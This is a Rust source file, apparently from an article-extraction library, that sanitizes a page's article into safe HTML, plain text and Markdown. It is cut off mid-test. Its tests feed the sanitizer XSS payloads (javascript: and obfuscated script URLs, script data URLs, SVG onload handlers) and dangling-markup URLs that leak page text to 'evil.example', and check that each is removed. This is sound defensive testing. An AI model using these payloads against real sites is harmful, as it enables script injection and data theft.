//! Article → sanitized HTML and plain text.
//!
//! In: the [`Dom`], the article's root node and the page URL. Out:
//! [`Rendered`]: HTML that is safe to insert into a page, the text with
//! paragraphs separated by blank lines, and the text's block structure.
//!
//! The HTML is written by an allow-list serializer: only the elements of
//! [`KEPT_TAGS`](rules::KEPT_TAGS) and the attributes of [`GLOBAL_ATTRS`](rules::GLOBAL_ATTRS) and
//! [`ELEMENT_ATTRS`](rules::ELEMENT_ATTRS) are written, every text and attribute value is
//! escaped, URLs are resolved against the page (or its `<base href>`) and
//! kept only with a safe scheme. Elements of [`DROPPED_TAGS`](rules::DROPPED_TAGS) go
//! with their content; any other element is unwrapped.

use std::borrow::Cow;

use html5ever::local_name;

use crate::parse::dom::{Dom, Edge, NodeData, NodeId};
use crate::parse::rules as shared_rules;
use crate::parse::url;
use crate::parse::visible::{is_modal_dialog, is_visible};
use crate::render::article::{Block, BlockKind};
use crate::render::markdown::Markdown;
use crate::render::md_plan;
use crate::render::rules;
use crate::render::visible::visible_text;

/// The article rendered for callers.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Rendered {
    pub html: String,
    pub text: String,
    pub blocks: Vec<Block>,
    /// The text of the article's first non-empty paragraph, for pages that
    /// do not describe themselves.
    pub first_paragraph: Option<String>,
    /// The article as Markdown, when asked for.
    pub markdown: Option<String>,
}

/// Renders the article below `root`. `base_url` is what relative links
/// resolve against: the page's URL, or its `<base href>` resolved against
/// it (see [`crate::metadata::Metadata::base_url`]). With `markdown`, the
/// same walk writes the article as Markdown too.
pub fn render(dom: &Dom, root: NodeId, base_url: Option<&str>, markdown: bool) -> Rendered {
    let filled = content_map(dom, root);
    let md = markdown.then(|| {
        let plan = md_plan::plan(
            dom,
            root,
            |id| {
                if filled[id.index()] & DROPPED != 0 {
                    Some(false)
                } else {
                    (filled[id.index()] & FILLED == 0).then_some(true)
                }
            },
            |table| {
                let bits = filled[table.index()];
                md_plan::TableFacts {
                    grid: bits & GRID != 0,
                    cell_blocks: bits & CELL_BLOCKS != 0,
                }
            },
        );
        Markdown::new(dom, plan)
    });
    let mut r = Renderer {
        dom,
        base: base_url,
        keep_anchors: !has_base_element(dom),
        filled,
        out: Rendered::default(),
        block_start: None,
        block_kind: BlockKind::Paragraph,
        html_space: true,
        html_words: false,
        pending: Gap::None,
        kinds: Vec::new(),
        pre: 0,
        open: Vec::new(),
        attrs: Vec::new(),
        md,
        grids: Vec::new(),
    };
    r.run(root);
    let mut out = r.out;
    out.markdown = r.md.map(Markdown::finish);
    out
}

/// Whether the document sets a `<base href>`, which in-page anchors
/// (`#note`) then resolve against too.
fn has_base_element(dom: &Dom) -> bool {
    dom.head()
        .and_then(|h| dom.find(h, &local_name!("base")))
        .and_then(|b| dom.attr(b, "href"))
        .is_some_and(|h| !h.trim().is_empty())
}

/// A node has something to show below it: text, or an image. Elements
/// with nothing are left out of the HTML.
const FILLED: u8 = 1;
/// An element left out as empty holds a line break, which still separates
/// the text around it (`<b><br></b>`).
const BREAKS: u8 = 2;
/// An element that goes with its content ([`is_dropped`]), decided once.
const DROPPED: u8 = 4;

/// A table written as a table: it has two cells or more, and its cells
/// hold only inline content or it has the marks of a data table (header
/// cells, a caption). Any other table lays out what it holds, which both
/// the HTML and the Markdown give as blocks in reading order.
const GRID: u8 = 8;
/// A table whose cells hold blocks (headings, lists, code, quotes, rules,
/// tables), which no Markdown pipe table can.
const CELL_BLOCKS: u8 = 16;

/// A table being mapped: what decides whether it is a grid.
struct TableWalk {
    id: NodeId,
    cells: u32,
    /// Cells of it the walk is inside.
    open_cells: u32,
    cell_blocks: bool,
    data: bool,
}

impl TableWalk {
    fn bits(&self) -> u8 {
        let grid = self.cells >= 2 && (!self.cell_blocks || self.data);
        (if grid { GRID } else { 0 }) | (if self.cell_blocks { CELL_BLOCKS } else { 0 })
    }
}

/// What each node holds, as [`FILLED`], [`BREAKS`] and [`DROPPED`] bits,
/// and for tables [`GRID`] and [`CELL_BLOCKS`].
fn content_map(dom: &Dom, root: NodeId) -> Vec<u8> {
    let mut filled = vec![0u8; dom.len()];
    let mut tables: Vec<TableWalk> = Vec::new();
    let mut walk = dom.traverse(root);
    while let Some(edge) = walk.next() {
        match edge {
            Edge::Open(id) => {
                if dom.element(id).is_some() && is_dropped(dom, id) {
                    filled[id.index()] = DROPPED;
                    walk.skip_subtree();
                    continue;
                }
                let has = match &dom.node(id).data {
                    NodeData::Text(t) => !t.trim().is_empty(),
                    _ => {
                        note_table_part(dom, id, &mut tables);
                        dom.is(id, &local_name!("img"))
                            || dom.is(id, &local_name!("hr"))
                            || dom.is(id, &local_name!("br"))
                    }
                };
                if has {
                    filled[id.index()] = FILLED;
                }
            }
            Edge::Close(id) => {
                let own = filled[id.index()];
                if own & DROPPED != 0 {
                    continue;
                }
                if !tables.is_empty() {
                    close_table_part(dom, id, own, &mut tables, &mut filled);
                }
                if id == root || own == 0 {
                    continue;
                }
                if let Some(p) = dom.parent(id) {
                    // A lone line break does not fill its parent, but an
                    // empty parent still breaks the line.
                    if own & FILLED == 0 || dom.is(id, &local_name!("br")) {
                        filled[p.index()] |= BREAKS;
                    } else {
                        filled[p.index()] |= FILLED;
                    }
                }
            }
        }
    }
    filled
}

/// Counts a table, a cell or a data table's mark as the walk enters it.
fn note_table_part(dom: &Dom, id: NodeId, tables: &mut Vec<TableWalk>) {
    let Some(tag) = dom.tag(id) else { return };
    if *tag == local_name!("table") {
        tables.push(TableWalk {
            id,
            cells: 0,
            open_cells: 0,
            cell_blocks: false,
            data: false,
        });
        return;
    }
    let Some(table) = tables.last_mut() else {
        return;
    };
    if *tag == local_name!("td") || *tag == local_name!("th") {
        table.cells += 1;
        table.open_cells += 1;
    }
    if *tag == local_name!("th") || *tag == local_name!("thead") || *tag == local_name!("caption") {
        table.data = true;
    }
}

/// Leaves a cell, notes a block that fills one, and decides a table as
/// the walk leaves it (a table nested in a cell is a block of that cell).
fn close_table_part(
    dom: &Dom,
    id: NodeId,
    own: u8,
    tables: &mut Vec<TableWalk>,
    filled: &mut [u8],
) {
    let Some(tag) = dom.tag(id) else { return };
    if *tag == local_name!("td") || *tag == local_name!("th") {
        if let Some(table) = tables.last_mut() {
            table.open_cells = table.open_cells.saturating_sub(1);
        }
    } else if *tag == local_name!("table") && tables.last().is_some_and(|t| t.id == id) {
        let table = tables.pop().expect("the table left");
        filled[id.index()] |= table.bits();
    }
    if own & FILLED != 0 && rules::MD_STRUCTURE_TAGS.contains(&&**tag) {
        if let Some(table) = tables.last_mut().filter(|t| t.open_cells > 0) {
            table.cell_blocks = true;
        }
    }
}

/// Whether an element goes with its content: active or embedded content,
/// SVG, hidden blocks. (MathML is unwrapped: its symbols stay as text.)
fn is_dropped(dom: &Dom, id: NodeId) -> bool {
    match dom.tag(id) {
        None => !dom.element(id).is_some_and(|e| {
            e.is_mathml() && !shared_rules::MATHML_HIDDEN.contains(&&*e.name.local)
        }),
        Some(tag) => {
            rules::DROPPED_TAGS.contains(&&**tag)
                || !is_visible(dom, id)
                || is_modal_dialog(dom, id)
        }
    }
}

/// What separates the next text from the text before it.
#[derive(Copy, Clone, PartialEq, Eq, PartialOrd, Ord)]
enum Gap {
    None,
    Space,
    Line,
}

/// An element being rendered: whether its tag was written, whether it
/// breaks the text into blocks, whether it set the block kind.
struct Open {
    written: Option<&'static str>,
    block: bool,
    kind: bool,
    pre: bool,
    table: bool,
    paragraph_start: Option<usize>,
}

struct Renderer<'a> {
    dom: &'a Dom,
    base: Option<&'a str>,
    /// In-page anchors stay as written (no `<base>` redirects them).
    keep_anchors: bool,
    filled: Vec<u8>,
    out: Rendered,
    /// Start of the current block in the text, once it has text.
    block_start: Option<usize>,
    /// The kind of the current block, set when its text starts.
    block_kind: BlockKind,
    /// Whether the HTML written so far ends with a space.
    html_space: bool,
    /// Whether the current block's HTML has words that the text leaves
    /// out (invisible characters only).
    html_words: bool,
    pending: Gap,
    kinds: Vec<BlockKind>,
    pre: u32,
    open: Vec<Open>,
    /// The attributes of the start tag last written.
    attrs: Vec<(&'static str, String)>,
    /// The Markdown writer, fed the same walk.
    md: Option<Markdown<'a>>,
    /// For each table the walk is in, whether it is written as a grid.
    grids: Vec<bool>,
}

impl Renderer<'_> {
    fn run(&mut self, root: NodeId) {
        let dom = self.dom;
        let mut walk = dom.traverse(root);
        let mut skipped: Option<NodeId> = None;
        while let Some(edge) = walk.next() {
            match edge {
                Edge::Open(id) => match &dom.node(id).data {
                    NodeData::Text(t) => self.text(t),
                    NodeData::Element(_) => {
                        let held = self.filled[id.index()];
                        let dropped = held & DROPPED != 0;
                        if dropped || held & FILLED == 0 {
                            walk.skip_subtree();
                            skipped = Some(id);
                            self.left_out(id, dropped, held);
                            continue;
                        }
                        self.open_element(id);
                    }
                    _ => {}
                },
                Edge::Close(id) => {
                    if skipped == Some(id) {
                        skipped = None;
                        continue;
                    }
                    if dom.element(id).is_some() {
                        self.close_element();
                    }
                }
            }
        }
        self.end_block();
        let trimmed = self.out.text.trim_end().len();
        self.out.text.truncate(trimmed);
    }

    /// An element left out still separates the text around it as it
    /// would on the page: an empty block ends the line of text before it
    /// (`foo<div></div>bar` shows two lines), and an empty element holding
    /// a `<br>` breaks it. Hidden elements separate nothing.
    fn left_out(&mut self, id: NodeId, dropped: bool, held: u8) {
        let dom = self.dom;
        let name: &str = dom.tag(id).map_or("", |t| t);
        let block =
            shared_rules::BLOCK_TAGS.contains(&name) && !rules::REPLACED_TAGS.contains(&name);
        let breaks = if dropped {
            block && is_visible(dom, id)
        } else {
            block || held & BREAKS != 0
        };
        if let Some(md) = &mut self.md {
            md.left_out(id, name, block && breaks, breaks);
        }
        // An empty cell keeps its place in the row, so that the cells
        // after it stay in their columns.
        if !dropped && matches!(name, "td" | "th") && self.in_grid() {
            if let Some(tag) = self.write_start_tag(id, name) {
                self.out.html.push_str("</");
                self.out.html.push_str(tag);
                self.out.html.push('>');
            }
            return;
        }
        if !breaks || self.block_start.is_none() {
            return;
        }
        self.out.html.push_str("<br>");
        if block {
            self.end_block();
        } else {
            self.line_break();
        }
    }

    fn open_element(&mut self, id: NodeId) {
        let dom = self.dom;
        // Foreign elements let through (MathML) are unwrapped.
        let name: &str = dom.tag(id).map_or("", |t| t);
        let block =
            shared_rules::BLOCK_TAGS.contains(&name) && !rules::REPLACED_TAGS.contains(&name);
        if block {
            self.end_block();
        }
        let kind = block_kind(name);
        if let Some(k) = kind {
            self.kinds.push(k);
        }
        let pre = name == "pre";
        if pre {
            self.pre += 1;
        }
        let table = name == "table";
        if table {
            self.grids.push(self.filled[id.index()] & GRID != 0);
        }
        let written = self.write_start_tag(id, self.table_tag(name, table));
        if let Some(md) = &mut self.md {
            md.open(id, name, written.map(|_| &self.attrs[..]));
        }
        if name == "br" {
            self.line_break();
        }
        let paragraph_start = (name == "p").then_some(self.out.text.len());
        self.open.push(Open {
            written,
            block,
            kind: kind.is_some(),
            pre,
            table,
            paragraph_start,
        });
    }

    fn in_grid(&self) -> bool {
        self.grids.last() == Some(&true)
    }

    /// The tag a table's element is written as: itself in a grid; in a
    /// table that lays out blocks (or outside any table, where a browser
    /// would drop it), a cell or caption is a `div` and any other part is
    /// not written.
    fn table_tag<'n>(&self, name: &'n str, table: bool) -> &'n str {
        if table || rules::TABLE_PARTS.contains(&name) {
            if self.in_grid() {
                name
            } else if rules::TABLE_BOXES.contains(&name) {
                "div"
            } else {
                ""
            }
        } else {
            name
        }
    }

    fn close_element(&mut self) {
        let Some(open) = self.open.pop() else { return };
        if let Some(tag) = open.written {
            if !rules::VOID_TAGS.contains(&tag) {
                self.out.html.push_str("</");
                self.out.html.push_str(tag);
                self.out.html.push('>');
            }
        }
        if open.pre {
            self.pre = self.pre.saturating_sub(1);
        }
        if open.table {
            self.grids.pop();
        }
        if let Some(start) = open.paragraph_start {
            if self.out.first_paragraph.is_none() {
                let text = self.out.text.get(start..).unwrap_or("").trim();
                if !text.is_empty() {
                    self.out.first_paragraph = Some(text.to_string());
                }
            }
        }
        if open.kind {
            self.kinds.pop();
        }
        if open.block {
            self.end_block();
        }
        if let Some(md) = &mut self.md {
            md.close();
        }
    }

    /// Writes the start tag of a kept element with its safe attributes;
    /// returns the tag written, or `None` when the element is unwrapped.
    fn write_start_tag(&mut self, id: NodeId, name: &str) -> Option<&'static str> {
        let &tag = rules::KEPT_TAGS.iter().find(|&&t| t == name)?;
        let dom = self.dom;
        let el = dom.element(id)?;
        let mut attrs = std::mem::take(&mut self.attrs);
        attrs.clear();
        let specific = rules::ELEMENT_ATTRS
            .iter()
            .find(|(t, _)| *t == tag)
            .map_or(&[][..], |(_, a)| a);
        for &attr in rules::GLOBAL_ATTRS.iter().chain(specific) {
            let Some(value) = el.attr(attr) else { continue };
            let value = if rules::URL_ATTRS.contains(&attr) {
                match self.safe_url(value, tag == "img") {
                    Some(v) => v,
                    None => continue,
                }
            } else if attr == "srcset" {
                match self.safe_srcset(value) {
                    Some(v) => v,
                    None => continue,
                }
            } else {
                value.to_string()
            };
            attrs.push((attr, value));
        }
        if tag == "img" {
            self.fill_lazy_image(id, &mut attrs);
        }
        let pointless = match tag {
            "img" => !attrs.iter().any(|(a, _)| *a == "src" || *a == "srcset"),
            // A link that goes nowhere safe is only its text.
            "a" => !attrs.iter().any(|(a, _)| *a == "href"),
            _ => false,
        };
        if pointless {
            self.attrs = attrs;
            return None;
        }
        let html = &mut self.out.html;
        html.push('<');
        html.push_str(tag);
        for (attr, value) in &attrs {
            html.push(' ');
            html.push_str(attr);
            html.push_str("=\"");
            escape_attr(value, html);
            html.push('"');
        }
        html.push('>');
        self.attrs = attrs;
        if tag == "img" {
            self.html_space = false;
        }
        Some(tag)
    }

    /// Uses the lazy-loading attributes of an image when its `src` is
    /// missing or a placeholder.
    fn fill_lazy_image(&self, id: NodeId, attrs: &mut Vec<(&'static str, String)>) {
        let dom = self.dom;
        let src = dom.attr(id, "src").unwrap_or("").trim();
        let placeholder = src.is_empty()
            || src.starts_with("data:") && src.len() < rules::MAX_PLACEHOLDER_DATA_URL;
        if !placeholder {
            return;
        }
        for &lazy in rules::LAZY_SRC_ATTRS {
            let Some(value) = dom.attr(id, lazy) else {
                continue;
            };
            let (attr, resolved) = if lazy.ends_with("srcset") {
                ("srcset", self.safe_srcset(value))
            } else {
                ("src", self.safe_url(value, true))
            };
            if let Some(v) = resolved {
                attrs.retain(|(a, _)| *a != attr);
                attrs.insert(0, (attr, v));
                if attr == "src" {
                    return;
                }
            }
        }
    }

    /// A URL resolved against the base, or `None` when its scheme is not
    /// safe for a link (or, for images, not a web or raster `data:` URL).
    fn safe_url(&self, value: &str, image: bool) -> Option<String> {
        // A raw `<` is never part of a well-formed URL (browsers send it
        // percent-encoded); in an attribute it is what an unclosed quote
        // swallowed from the markup after it ("dangling markup"), which
        // would carry the page's text to another site.
        if value.contains('<') {
            return None;
        }
        let cleaned = url::clean(value);
        if cleaned.is_empty() {
            return None;
        }
        match url::scheme(&cleaned) {
            Some(s) if s == "data" => {
                let mime = cleaned
                    .get(5..)
                    .unwrap_or("")
                    .split([';', ','])
                    .next()
                    .unwrap_or("")
                    .to_ascii_lowercase();
                return (image && shared_rules::SAFE_DATA_IMAGE_TYPES.contains(&mime.as_str()))
                    .then_some(cleaned);
            }
            Some(s) => {
                let allowed = if image {
                    shared_rules::SAFE_IMAGE_SCHEMES
                } else {
                    shared_rules::SAFE_LINK_SCHEMES
                };
                if !allowed.contains(&s.as_str()) {
                    return None;
                }
            }
            None => {}
        }
        // An in-page anchor stays one when the page is its own base.
        if cleaned.starts_with('#') && self.keep_anchors {
            return Some(cleaned);
        }
        match self.base {
            Some(base) => {
                let resolved = url::resolve(base, &cleaned)?;
                // Resolving cannot add a scheme that was not allowed, but
                // check the result as written.
                let scheme = url::scheme(&resolved)?;
                let allowed = if image {
                    shared_rules::SAFE_IMAGE_SCHEMES
                } else {
                    shared_rules::SAFE_LINK_SCHEMES
                };
                allowed.contains(&scheme.as_str()).then_some(resolved)
            }
            None => Some(cleaned),
        }
    }

    /// A `srcset` with each candidate URL made safe and absolute.
    fn safe_srcset(&self, value: &str) -> Option<String> {
        let mut out = Vec::new();
        for (u, descriptors) in srcset_candidates(value) {
            let Some(u) = self.safe_url(u, true) else {
                continue;
            };
            if descriptors.is_empty() {
                out.push(u);
            } else {
                out.push(format!("{u} {descriptors}"));
            }
        }
        (!out.is_empty()).then(|| out.join(", "))
    }

    // ---- text --------------------------------------------------------

    fn text(&mut self, t: &str) {
        if self.pre > 0 {
            if t.is_empty() {
                return;
            }
            let seen = visible_text(t);
            if !seen.is_empty() {
                self.start_text();
                self.out.text.push_str(&seen);
                if let Some(md) = &mut self.md {
                    md.pre_text(&seen);
                }
            }
            escape_text(t, &mut self.out.html);
            self.html_space = false;
            return;
        }
        // Most text is ASCII, which holds no invisible characters.
        let ascii = t.is_ascii();
        let mut rest = t;
        while !rest.is_empty() {
            let word_start = rest
                .find(|c: char| !c.is_whitespace())
                .unwrap_or(rest.len());
            if word_start > 0 {
                self.pending = self.pending.max(Gap::Space);
                if let Some(md) = &mut self.md {
                    md.space();
                }
                if !self.html_space && (self.block_start.is_some() || self.html_words) {
                    self.out.html.push(' ');
                    self.html_space = true;
                }
            }
            rest = rest.get(word_start..).unwrap_or("");
            if rest.is_empty() {
                break;
            }
            let word_end = rest.find(char::is_whitespace).unwrap_or(rest.len());
            let word = rest.get(..word_end).unwrap_or("");
            let seen = if ascii {
                Cow::Borrowed(word)
            } else {
                visible_text(word)
            };
            if seen.is_empty() {
                self.html_words = true;
            } else {
                self.start_text();
                self.out.text.push_str(&seen);
                if let Some(md) = &mut self.md {
                    md.word(&seen);
                }
            }
            escape_text(word, &mut self.out.html);
            self.html_space = false;
            rest = rest.get(word_end..).unwrap_or("");
        }
    }

    /// Writes what separates the coming text from the text before it.
    fn start_text(&mut self) {
        if self.block_start.is_none() {
            if !self.out.text.is_empty() {
                self.out.text.push_str("\n\n");
            }
            self.block_start = Some(self.out.text.len());
            self.block_kind = self.kinds.last().copied().unwrap_or(BlockKind::Paragraph);
        } else {
            match self.pending {
                Gap::Space => self.out.text.push(' '),
                Gap::Line => self.out.text.push('\n'),
                Gap::None => {}
            }
        }
        self.pending = Gap::None;
    }

    /// A `<br>`: a new line, or a new block after another `<br>`.
    fn line_break(&mut self) {
        if self.pre > 0 {
            self.start_text();
            self.out.text.push('\n');
            return;
        }
        if self.block_start.is_none() {
            return;
        }
        if self.pending == Gap::Line {
            self.end_block();
        } else {
            self.pending = Gap::Line;
        }
    }

    /// Closes the current block of text, if it has any.
    fn end_block(&mut self) {
        self.html_space = true;
        self.html_words = false;
        if let Some(start) = self.block_start.take() {
            let text = &self.out.text;
            let end = start + text.get(start..).unwrap_or("").trim_end().len();
            if end > start {
                self.out.blocks.push(Block {
                    range: start..end,
                    kind: self.block_kind,
                });
            }
        }
        self.pending = Gap::None;
    }
}

/// The kind of block an element makes of its text, if it sets one.
fn block_kind(tag: &str) -> Option<BlockKind> {
    Some(match tag {
        "h1" | "h2" | "h3" | "h4" | "h5" | "h6" => BlockKind::Heading,
        "li" | "dt" | "dd" => BlockKind::ListItem,
        "blockquote" => BlockKind::Quote,
        "pre" => BlockKind::Code,
        "figcaption" | "caption" => BlockKind::Caption,
        "td" | "th" => BlockKind::Table,
        _ => return None,
    })
}

fn escape_text(text: &str, out: &mut String) {
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '\u{a0}' => out.push_str("&nbsp;"),
            _ => out.push(c),
        }
    }
}

/// Whether `d` is a `srcset` descriptor: a number followed by `w` (width),
/// `x` (pixel density) or `h` (height).
fn is_srcset_descriptor(d: &str) -> bool {
    let Some(number) = d.strip_suffix(['w', 'x', 'h']) else {
        return false;
    };
    !number.is_empty()
        && number.bytes().any(|b| b.is_ascii_digit())
        && number
            .bytes()
            .all(|b| b.is_ascii_digit() || matches!(b, b'.' | b'e' | b'E' | b'+' | b'-'))
}

/// The candidates of a `srcset`, as the HTML standard splits them: a URL
/// is a run of non-space characters (so a comma inside a `data:` URL does
/// not split it), a comma at its end closes the candidate, and otherwise
/// its descriptors run to the next comma outside parentheses. Yields each
/// URL with its descriptors, spaces collapsed.
fn srcset_candidates(value: &str) -> Vec<(&str, String)> {
    let is_space = |c: char| matches!(c, ' ' | '\t' | '\n' | '\r' | '\x0c');
    let mut candidates = Vec::new();
    let mut rest = value;
    loop {
        rest = rest.trim_start_matches(|c: char| is_space(c) || c == ',');
        if rest.is_empty() {
            return candidates;
        }
        let url_end = rest.find(is_space).unwrap_or(rest.len());
        let (raw_url, after) = rest.split_at(url_end);
        let url = raw_url.trim_end_matches(',');
        if url.len() < raw_url.len() {
            candidates.push((url, String::new()));
            rest = after;
            continue;
        }
        let mut depth = 0usize;
        let end = after
            .char_indices()
            .find(|&(_, c)| {
                match c {
                    '(' => depth += 1,
                    ')' => depth = depth.saturating_sub(1),
                    ',' if depth == 0 => return true,
                    _ => {}
                }
                false
            })
            .map_or(after.len(), |(i, _)| i);
        let descriptors: Vec<&str> = after[..end]
            .split(is_space)
            .filter(|d| !d.is_empty())
            .collect();
        // A candidate with a descriptor that is not a width, density or
        // height is invalid, and browsers skip it.
        if descriptors.iter().all(|d| is_srcset_descriptor(d)) {
            candidates.push((url, descriptors.join(" ")));
        }
        rest = &after[end..];
    }
}

fn escape_attr(text: &str, out: &mut String) {
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '"' => out.push_str("&quot;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            _ => out.push(c),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn render_body(html: &str, url: Option<&str>) -> Rendered {
        let dom = Dom::parse(html);
        let body = dom.body().expect("body");
        render(&dom, body, url, false)
    }

    fn html_of(html: &str) -> String {
        render_body(html, Some("https://example.com/news/story.html")).html
    }

    #[test]
    fn event_handlers_and_styles_are_dropped() {
        let out = html_of(
            r#"<p onclick="steal()" style="color:red" class="x" id="y">Hi <b onmouseover=x>there</b></p>"#,
        );
        assert_eq!(out, "<p>Hi <b>there</b></p>");
    }

    #[test]
    fn script_urls_are_dropped_and_links_unwrapped() {
        for href in [
            "javascript:alert(1)",
            " JaVaScRiPt:alert(1)",
            "java\tscript:alert(1)",
            "vbscript:msgbox",
            "data:text/html,<script>alert(1)</script>",
        ] {
            let out = html_of(&format!(r#"<p><a href="{href}">click</a></p>"#));
            assert_eq!(out, "<p>click</p>", "{href}");
        }
    }

    #[test]
    fn data_urls_only_for_raster_images() {
        let out = html_of(
            r#"<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="a"><img src="data:image/svg+xml,<svg onload=x>"></p>"#,
        );
        assert_eq!(
            out,
            r#"<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="a"></p>"#
        );
    }

    #[test]
    fn srcset_splits_as_the_standard_does() {
        let got = srcset_candidates(
            " a.jpg 1x,b.jpg, c.jpg 480w 1.5x ,d.jpg,, e.jpg (x, y) 2x, f.jpg 2q, g.jpg 1e1w",
        );
        // e.jpg and f.jpg have descriptors that are not width, density or
        // height (a parenthesis does not end the candidate at its comma).
        let want = [
            ("a.jpg", "1x"),
            ("b.jpg", ""),
            ("c.jpg", "480w 1.5x"),
            ("d.jpg", ""),
            ("g.jpg", "1e1w"),
        ];
        let want: Vec<(&str, String)> = want.iter().map(|&(u, d)| (u, d.to_string())).collect();
        assert_eq!(got, want);
        // A comma inside a URL does not split it.
        let got = srcset_candidates("data:image/png;base64,iVBO 2x");
        assert_eq!(got, vec![("data:image/png;base64,iVBO", "2x".to_string())]);
    }

    #[test]
    fn srcset_keeps_no_piece_of_a_script_url() {
        for srcset in [
            "data:text/html,<script>alert(1)</script> 1x",
            "data:image/svg+xml,<svg onload=alert(1)> 1x",
            "jav\tascript:alert(1)",
            "jav\nascript:alert(1) 1x",
        ] {
            let out = html_of(&format!(r#"<p>x<img srcset="{srcset}"></p>"#));
            assert_eq!(out, "<p>x</p>", "{srcset}");
        }
        let out = html_of(r#"<p><img srcset="/s.png 1x, /l.png 2x"></p>"#);
        assert_eq!(
            out,
            r#"<p><img srcset="https://example.com/s.png 1x, https://example.com/l.png 2x"></p>"#
        );
    }

    #[test]
    fn urls_that_swallowed_markup_are_dropped() {
        // An unclosed quote makes the URL run on into the page's markup.
        let out =
            html_of("<p>Before <a href='https://evil.example/?leak=\n<p>secret</p>'>x</a></p>");
        assert!(!out.contains("evil"), "{out}");
        let out = html_of("<p>A<img src='https://evil.example/?leak=\n<b>secret'></p>");
        assert!(!out.contains("evil"), "{out}");
    }

    #[test]
    fn active_and_foreign_content_is_removed() {
        let out = html_of(
            "<div><p>Keep</p><script>bad()</script><style>p{}</style><iframe src=x>f</iframe>\
             <object>o</object><embed src=e><form><input value=v><button>b</button></form>\
             <svg><text>svg text</text><script>x</script></svg><template><p>t</p></template>\
             <noscript>n</noscript><base href=http://evil/><meta content=x></div>",
        );
        assert_eq!(out, "<div><p>Keep</p></div>");
    }

    #[test]
    fn mathml_is_kept_as_text_only() {
        let r = render_body(
            "<p>When <math><mi>a</mi><mo>≠</mo><mn>0</mn><annotation>a \\neq 0</annotation></math> holds</p>",
            None,
        );
        assert_eq!(r.text, "When a≠0 holds");
        assert!(!r.html.contains("math"));
    }

    #[test]
    fn text_and_attributes_are_escaped() {
        let out = html_of(r#"<p title='a "quoted" <title>'>1 &lt; 2 &amp; 3 &gt; 2</p>"#);
        assert_eq!(
            out,
            "<p title=\"a &quot;quoted&quot; &lt;title&gt;\">1 &lt; 2 &amp; 3 &gt; 2</p>"
        );
    }

    #[test]
    fn relative_urls_resolve_against_the_page() {
        let out = html_of(
            r##"<p><a href="../about?x=1#top">a</a> <img src="/i.png"> <a href="#note">n</a></p>"##,
        );
        assert_eq!(
            out,
            "<p><a href=\"https://example.com/about?x=1#top\">a</a> \
             <img src=\"https://example.com/i.png\"> <a href=\"#note\">n</a></p>"
        );
    }

    #[test]
    fn base_href_redirects_links_and_anchors() {
        // The caller gives the base already resolved (metadata does).
        let r = render_body(
            r##"<head><base href="/static/"></head><body><p><a href="x/y.html">l</a></p><p><a href="#n">n</a></p>"##,
            Some("https://example.com/static/"),
        );
        assert_eq!(
            r.html,
            "<p><a href=\"https://example.com/static/x/y.html\">l</a></p>\
             <p><a href=\"https://example.com/static/#n\">n</a></p>"
        );
    }

    #[test]
    fn lazy_images_use_their_real_source() {
        let out = html_of(
            r#"<p><img src="data:image/gif;base64,R0lGOD" data-src="big.jpg" alt="x"></p>"#,
        );
        assert_eq!(
            out,
            "<p><img src=\"https://example.com/news/big.jpg\" alt=\"x\"></p>"
        );
    }

    #[test]
    fn paragraphs_are_separated_by_blank_lines() {
        let r = render_body(
            "<h2>Title</h2><p>One  <em>two</em>\n three.</p><div>Four<br>five<br><br>six</div>\
             <ul><li>item</li></ul><blockquote><p>quote</p></blockquote>",
            None,
        );
        assert_eq!(
            r.text,
            "Title\n\nOne two three.\n\nFour\nfive\n\nsix\n\nitem\n\nquote"
        );
        let kinds: Vec<BlockKind> = r.blocks.iter().map(|b| b.kind).collect();
        assert_eq!(
            kinds,
            [
                BlockKind::Heading,
                BlockKind::Paragraph,
                BlockKind::Paragraph,
                BlockKind::Paragraph,
                BlockKind::ListItem,
                BlockKind::Quote
            ]
        );
        for b in &r.blocks {
            let t = &r.text[b.range.clone()];
            assert_eq!(t, t.trim());
        }
        assert_eq!(r.first_paragraph.as_deref(), Some("One two three."));
    }

    #[test]
    fn pre_keeps_its_whitespace() {
        let r = render_body(
            "<pre>fn main() {\n    x  =  1;\n}</pre><p>after   it</p>",
            None,
        );
        assert_eq!(r.text, "fn main() {\n    x  =  1;\n}\n\nafter it");
        assert_eq!(r.blocks[0].kind, BlockKind::Code);
        assert!(r.html.contains("<pre>fn main() {\n    x  =  1;\n}</pre>"));
    }

    #[test]
    fn tables_and_figures_keep_structure() {
        let r = render_body(
            "<table><caption>Totals</caption><tr><th>A</th><td colspan=2 style=x>1</td></tr></table>\
             <figure><img src=a.png><figcaption>A cat</figcaption></figure>",
            Some("http://h/"),
        );
        assert_eq!(
            r.html,
            "<table><caption>Totals</caption><tbody><tr><th>A</th><td colspan=\"2\">1</td></tr></tbody></table>\
             <figure><img src=\"http://h/a.png\"><figcaption>A cat</figcaption></figure>"
        );
        let kinds: Vec<BlockKind> = r.blocks.iter().map(|b| b.kind).collect();
        assert_eq!(
            kinds,
            [
                BlockKind::Caption,
                BlockKind::Table,
                BlockKind::Table,
                BlockKind::Caption
            ]
        );
    }

    #[test]
    fn tables_that_lay_out_blocks_are_written_as_blocks() {
        // One cell, cells holding headings and lists, and cells with no
        // table around them: boxes (the text and its blocks do not change).
        let html = "<table><tr><td><pre>x = 1</pre></td></tr></table>\
             <table><tr><td><h2>Side</h2><ul><li>a</li></ul></td><td><p>Main</p></td></tr></table>";
        let r = render_body(html, None);
        assert_eq!(
            r.html,
            "<div><pre>x = 1</pre></div><div><h2>Side</h2><ul><li>a</li></ul></div><div><p>Main</p></div>"
        );
        let kinds: Vec<BlockKind> = r.blocks.iter().map(|b| b.kind).collect();
        assert_eq!(
            kinds,
            [
                BlockKind::Code,
                BlockKind::Heading,
                BlockKind::ListItem,
                BlockKind::Table
            ]
        );
        let dom = Dom::parse("<table><tr><td><div id=a><p>x</p></div></td><td>y</td></tr></table>");
        let cell = dom.find(dom.document(), &local_name!("div")).expect("div");
        assert_eq!(render(&dom, cell, None, false).html, "<div><p>x</p></div>");
        // A data table keeps its grid, lists and all.
        let data = "<table><tr><th>Tools</th><td><ul><li>saw</li></ul></td></tr></table>";
        assert_eq!(
            html_of(data),
